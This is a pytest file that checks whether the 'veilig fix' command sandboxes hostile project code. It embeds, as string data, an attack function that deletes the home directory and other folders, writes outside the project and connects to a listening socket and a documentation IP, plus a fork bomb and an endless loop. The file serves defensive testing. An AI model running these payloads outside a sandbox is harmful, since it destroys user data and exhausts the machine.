"""Does `veilig fix` hold a project whose tests and mutants destroy, call out, fork, write elsewhere and spin?

Real runs of the command line. What is watched lies outside the copy: a folder of the user, the user's own
tree, a listening socket, and every process of the machine.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Generator
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.slow, pytest.mark.outside_gate]

LIMIT_S = 420  # of one run on a busy machine; without a wall the forks alone would never end
ATTACK = '''
import contextlib
import os
import shutil
import socket
import subprocess


def attack():
    """Everything a mutant could do by accident, at once."""
    for place in (OUTSIDE, SOURCE, os.path.expanduser("~")):
        shutil.rmtree(place, ignore_errors=True)
        with contextlib.suppress(OSError):
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, "written"), "w") as file:
                file.write("x")
    for host in ("127.0.0.1", "192.0.2.1"):
        with contextlib.suppress(OSError):
            socket.create_connection((host, PORT), timeout=1).sendall(b"here")
    with contextlib.suppress(OSError):
        subprocess.Popen(["sh", "-c", "sleep 900; : " + TOKEN], start_new_session=True)
'''
FORK = """

def fork():
    while True:
        try:
            os.fork()
        except OSError:
            return
"""

COUNT = """
from hostile import attack


def count(entries, limit):
    if limit < 0:
        attack()
    found = 0
    for _ in entries:
        if found > limit:
            break
        found += 1
    return found
"""
COUNT_TEST = """
from app import count


def test_all():
    assert count("ab", 5) == 2


def test_limit():
    assert count("abcdef", 3) == 3


def test_none():
    assert count("abc", 0) == 0
"""


class Around:
    """What must stay as it was, and a socket that must not be called."""

    def __init__(self, folder: Path, listener: socket.socket) -> None:
        self.source, self.outside, self.home = folder / "project", folder / "outside", folder / "home"
        self.token = f"veilig-contained-{os.getpid()}-{folder.name}"
        self.listener = listener
        self.outside.mkdir()
        (self.outside / "kept.txt").write_text("kept\n")

    def make(self, files: dict[str, str]) -> None:
        """The project; its attack knows where everything is."""
        port = self.listener.getsockname()[1]
        names = f"OUTSIDE, SOURCE = {str(self.outside)!r}, {str(self.source)!r}\n"
        names += f"PORT, TOKEN = {port}, {self.token!r}\n"
        ini = "[pytest]\npythonpath = .\n"
        for path, text in {"pytest.ini": ini, "hostile.py": names + ATTACK + FORK, **files}.items():
            place = self.source / path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text)

    def texts(self) -> dict[str, bytes]:
        """Everything below the project and the folder beside it."""
        folders = (self.source, self.outside)
        return {
            str(p): p.read_bytes() for folder in folders for p in sorted(folder.rglob("*")) if p.is_file()
        }

    def fix(self, budget_s: int) -> dict[str, Any]:
        """`veilig fix --json`; the answer."""
        environment = {
            **os.environ,
            "VEILIG_HOME": str(self.home),
            "XDG_CONFIG_HOME": str(self.home / "none"),
        }
        argv = [
            sys.executable,
            "-m",
            "veilig.cli.main",
            "fix",
            str(self.source),
            "--json",
            "--budget",
            str(budget_s),
        ]
        done = subprocess.run(
            argv, env=environment, capture_output=True, text=True, timeout=LIMIT_S, check=False
        )
        return json.loads(done.stdout)

    def called(self) -> bool:
        """Whether anybody connected."""
        self.listener.settimeout(0.2)
        try:
            self.listener.accept()[0].close()
        except TimeoutError:
            return False
        return True

    def left(self) -> list[str]:
        """Processes that carry our token, or that run from the session's copy."""
        found: list[str] = []
        for place in Path("/proc").iterdir():
            if not place.name.isdigit() or int(place.name) == os.getpid():
                continue
            try:
                line = (place / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue  # it ended meanwhile, which is what we want
            if self.token in line or str(self.home) in line:
                found.append(line)
        return found


@pytest.fixture
def around(tmp_path: Path) -> Generator[Around]:
    if shutil.which("bwrap") is None:
        pytest.skip("no bubblewrap on this machine: the run would be refused or held by another wall")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        yield Around(tmp_path, listener)


def test_mutants_that_attack_are_held_and_the_repair_still_comes(around: Around) -> None:
    # Every mutant that weakens the guard attacks; the right repair does not touch it.
    around.make({"app.py": COUNT, "test_app.py": COUNT_TEST})
    before = around.texts()
    result = around.fix(60)
    assert [p["status"] for p in result["problems"] if p["kind"] == "test"] == ["fixed"], result["summary"]
    assert "found >= limit" in result["diff"] or "found == limit" in result["diff"]
    assert (around.texts(), around.called(), around.left()) == (before, False, [])


def test_tests_that_attack_fork_and_spin_are_held_and_end_in_time(around: Around) -> None:
    test = (
        "from hostile import attack, fork\n\n\ndef test_attack():\n    attack()\n\n\n"
        "def test_fork():\n    fork()\n\n\ndef test_spin():\n    while True:\n        pass\n"
    )
    around.make({"test_hostile.py": test})
    before = around.texts()
    result = around.fix(10)
    assert result["diff"] == ""
    assert (around.texts(), around.called(), around.left()) == (before, False, [])


def test_a_project_module_with_a_standard_name_is_not_run_by_the_reader(around: Around) -> None:
    around.make(
        {"json.py": "raise SystemExit('the audit ran me')\n", "test_a.py": "def test_a():\n    pass\n"}
    )
    result = around.fix(10)
    assert not any("could not be audited" in note for note in result["notes"]), result["notes"]
